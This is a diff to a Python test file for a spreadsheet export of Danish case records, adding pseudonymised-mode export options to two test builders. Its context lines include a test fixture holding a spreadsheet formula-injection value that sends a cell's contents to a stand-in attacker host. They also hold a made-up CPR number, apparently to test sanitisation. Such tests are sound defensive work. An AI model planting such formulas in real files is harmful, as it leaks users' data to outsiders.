@@ -28,6 +28,9 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 NICKNAMES = ["Bamse Hansen", HYPERLINK, "Lille My"]
 WORKER_NAMES = ["Jens Jørgensen"]
 CPR_TEXT = "Bor hos søster, cpr 010190-1234, ring 23 45 67 89"
+#: The row-level microdata export (no k enforced): the sheets' full layout; the anonymised default
+#: is tested in test_disclosure.py.
+PSEUDONYMISED = {"mode": "pseudonymised", "legal_basis": "Databehandleraftale 2026-01", "recipient": "Evaluator A"}
 PSEUDONYM = re.compile(r"[KMFSE][0-9A-HJKMNP-TV-Z]{9}")
 
 
@@ -78,7 +81,8 @@ def _build(pseudonyms: Pseudonymizer | None = None, *, free_text: bool = False, 
         caseworker_definition=CW,
         options=ExportOptions(pseudonyms or Pseudonymizer.keyed(b"a" * 32), datetime(2024, 5, 2, tzinfo=UTC),
                               date_mode=date_mode, include_free_text=free_text,
-                              known_terms=[*NICKNAMES, *WORKER_NAMES], filters={"Kommune": "Esbjerg"}),
+                              known_terms=[*NICKNAMES, *WORKER_NAMES], filters={"Kommune": "Esbjerg"},
+                              **PSEUDONYMISED),
     )
     return out.getvalue()
 
@@ -287,7 +291,7 @@ def test_the_reports_are_read_from_their_source_once_for_all_sheets() -> None:
 
     build_workbook(
         io.BytesIO(), reports=reports, survey=lambda: iter(_survey()), skp_definition=SKP, caseworker_definition=CW,
-        options=ExportOptions(Pseudonymizer.keyed(b"a" * 32), datetime(2024, 5, 2, tzinfo=UTC)),
+        options=ExportOptions(Pseudonymizer.keyed(b"a" * 32), datetime(2024, 5, 2, tzinfo=UTC), **PSEUDONYMISED),
     )
     assert calls == [1]
 
